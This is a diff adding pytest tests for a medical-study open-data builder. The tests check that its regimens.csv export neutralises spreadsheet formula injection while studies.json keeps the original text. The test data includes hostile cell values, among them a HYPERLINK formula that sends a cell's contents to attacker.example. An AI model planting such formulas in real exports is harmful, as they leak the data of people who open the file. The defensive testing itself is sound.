@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
+import shutil
 from pathlib import Path
 
 import pytest
@@ -164,3 +165,69 @@ def test_csv_keeps_hostile_text_as_data():
     text = opendata.regimens_csv(FakeSite())
     rows = list(csv.DictReader(text.splitlines(keepends=True)))
     assert rows[0]["quote"] == 'a, "quoted"\nline'
+
+
+# Cells a spreadsheet would run as formulas (issue 19, OWASP "CSV injection"): (study, line of
+# its YAML, the same line with a hostile value, the value, what regimens.csv must hold)
+HOSTILE = [
+    ("rituximab-childhood-sle-2005", "when: only for children who had not had it before",
+     "when: '=HYPERLINK(\"https://attacker.example/?d=\"&A1,\"Dosing notes\")'",
+     ("rituximab-childhood-sle-2005", 1, "when"), '=HYPERLINK("https://attacker.example/?d="&A1,"Dosing notes")'),
+    ("rituximab-childhood-sle-2005", "rate: not-reported", 'rate: "+1"',
+     ("rituximab-childhood-sle-2005", 0, "rate"), "+1"),
+    ("rituximab-childhood-sle-2005", "premedication: not-reported", 'premedication: "@SUM(1)"',
+     ("rituximab-childhood-sle-2005", 0, "premedication"), "@SUM(1)"),
+    ("willems-2006", "rate: not-reported", 'rate: "-then slower"',
+     ("willems-2006", 0, "rate"), "-then slower"),
+    ("lin-2024", "when: as maintenance therapy", 'when: "\\tas maintenance therapy"',
+     ("lin-2024", 0, "when"), "\tas maintenance therapy"),
+]
+# a plain number, even a negative one, is left as it is
+NUMBER = ("willems-2006", "premedication: not-reported", 'premedication: "-1.5"',
+          ("willems-2006", 0, "premedication"), "-1.5")
+
+
+def test_formula_like_cells_are_neutralised_and_every_other_cell_is_unchanged(tmp_path, out):
+    content = tmp_path / "content"
+    shutil.copytree(ROOT / "content", content)
+    for sid, old, new, _, _ in HOSTILE + [NUMBER]:
+        path = content / "studies" / f"{sid}.yaml"
+        text = path.read_text(encoding="utf-8")
+        assert old in text, (sid, old)
+        path.write_text(text.replace(old, new, 1), encoding="utf-8")
+    mp = pytest.MonkeyPatch()
+    mp.setenv("SOURCE_DATE_EPOCH", EPOCH)
+    try:
+        build(content, tmp_path / "output")
+    finally:
+        mp.undo()
+
+    def cells(folder: Path) -> dict[tuple, str]:
+        with open(folder / "regimens.csv", encoding="utf-8", newline="") as f:
+            return {(r["study_id"], int(r["regimen"]), k): v for r in csv.DictReader(f) for k, v in r.items()}
+    before, after = cells(out), cells(tmp_path / "output")
+    assert set(after) == set(before)
+    changed = {cell: value for *_, cell, value in HOSTILE}
+    for cell, value in changed.items():
+        assert before[cell] != value
+        assert after[cell] == "'" + value, cell          # a leading ' : text, never a formula
+    assert after[NUMBER[3]] == "-1.5" != before[NUMBER[3]]
+    # csv reads every other cell back exactly as it was
+    assert {k: v for k, v in after.items() if k not in changed and k != NUMBER[3]} == \
+        {k: v for k, v in before.items() if k not in changed and k != NUMBER[3]}
+    # no cell of the file begins a formula
+    assert not [k for k, v in after.items() if v and v[0] in "=+-@\t\r" and v != "-1.5"]
+    # studies.json is data for programs, not a spreadsheet: it keeps the YAML's text
+    doc = json.loads((tmp_path / "output" / "studies.json").read_text(encoding="utf-8"))
+    regimens = {s["id"]: s["regimens"] for s in doc["studies"]}
+    for (sid, i, key), value in changed.items():
+        assert regimens[sid][i][key] == value
+
+
+def test_csv_cell_follows_owasp():
+    cell = opendata.csv_cell
+    for text in ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "-", "-x", "+-1", "-1.5.2", "--1"]:
+        assert cell(text) == "'" + text, repr(text)
+    for text in ["", "1", "1500", "-1.5", "-2", "0.25", "-2e-05", "not-reported", "mg/m2", "a=b",
+                 "'=already quoted", " =1", "intravenous"]:
+        assert cell(text) == text, repr(text)
